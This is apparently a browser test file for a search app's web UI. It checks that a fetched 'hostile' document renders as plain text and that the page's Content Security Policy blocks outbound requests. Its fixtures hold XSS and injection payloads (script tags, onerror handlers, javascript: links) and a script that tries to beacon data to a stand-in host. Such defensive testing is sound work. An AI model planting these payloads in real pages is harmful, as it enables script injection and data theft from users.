"""Other people's text on the page: its images are not loaded, its markup is not markup, its scripts do not run."""

from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.page.conftest import serving
from tests.page.watch import MakePage

pytestmark = pytest.mark.browser
QUERY = "What is the harbour toll of Port Ambrel?"
HOSTILE = """# The harbour toll of Port Ambrel

The harbour toll of Port Ambrel is 41 marks ![toll](http://elsewhere.example/image.png?key=1)
&lt;img src="http://elsewhere.example/img.png" onerror="document.title='taken'"&gt;
<img src="http://elsewhere.example/raw.png" onerror="document.title='taken'">
<script>document.title='taken'</script> [harbour toll of Port Ambrel](javascript:document.title='taken')
<a href="http://elsewhere.example/link" ping="http://elsewhere.example/ping">harbour toll</a>
<iframe src="http://elsewhere.example/frame"></iframe> <link rel="prefetch" href="http://elsewhere.example/prefetch">
<style>@import url(http://elsewhere.example/style.css);</style> {{constructor.constructor('1')()}} ${1+1}
"""
LEAKS = """async () => {
  const seen = [];
  document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
  const at = "http://elsewhere.example/";
  const image = new Image(); image.src = at + "image";
  fetch(at).catch(() => null);
  navigator.sendBeacon(at, "key");
  const style = document.createElement("link"); style.rel = "stylesheet"; style.href = at; document.head.append(style);
  const script = document.createElement("script"); script.src = at; document.head.append(script);
  const frame = document.createElement("iframe"); frame.src = at; document.body.append(frame);
  const form = document.createElement("form"); form.action = at; document.body.append(form); form.submit();
  await new Promise((done) => setTimeout(done, 300));
  return [...new Set(seen)].sort();
}"""


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("foreign")
    documents: Path = folder / "documents"
    documents.mkdir()
    (documents / "toll.txt").write_text(HOSTILE, "utf-8")
    with serving(folder, "--documents", str(documents), "--policy", "fixed:search-1,answer-1", pace="0") as served:
        yield served


@pytest.fixture(scope="module")
def run(address: str) -> str:
    """A run that found the hostile document."""
    id = str(httpx.post(f"{address}/api/v1/runs", json={"query": QUERY}).json()["id"])
    with httpx.stream("GET", f"{address}/api/v1/runs/{id}/events", timeout=60) as events:
        events.read()
    found = httpx.get(f"{address}/api/v1/runs/{id}").json()["trajectories"][0]
    assert "elsewhere.example" in str(found["steps"][0]["observation"]["documents"])
    return id


def test_a_hostile_document_is_shown_as_the_text_that_it_is(page: Page, address: str, run: str) -> None:
    page.goto(f"{address}/ui/?run={run}&step=0")
    expect(page.locator("html[data-podium=ready]")).to_be_attached()
    expect(page.locator("#trace .pd-query")).to_have_text(QUERY)
    expect(page.get_by_text("harbour toll of Port Ambrel is 41 marks").first).to_be_attached()
    page.wait_for_timeout(300)
    assert "taken" not in page.title()
    assert page.locator("[src*='elsewhere.example'], [href^='javascript:'], [ping], [onerror]").count() == 0


def test_even_a_script_on_the_page_could_not_send_anything_elsewhere(
    another_page: MakePage, address: str, run: str
) -> None:
    page = another_page(allowed=["Content Security Policy"])
    for path in (f"/ui/?run={run}", "/rank", "/stage"):
        page.goto(f"{address}{path}")
        refused = page.evaluate(LEAKS)
        assert {"connect-src", "form-action", "frame-src", "img-src", "style-src-elem"} <= set(refused), path
        assert {"script-src", "script-src-elem"} & set(refused), path
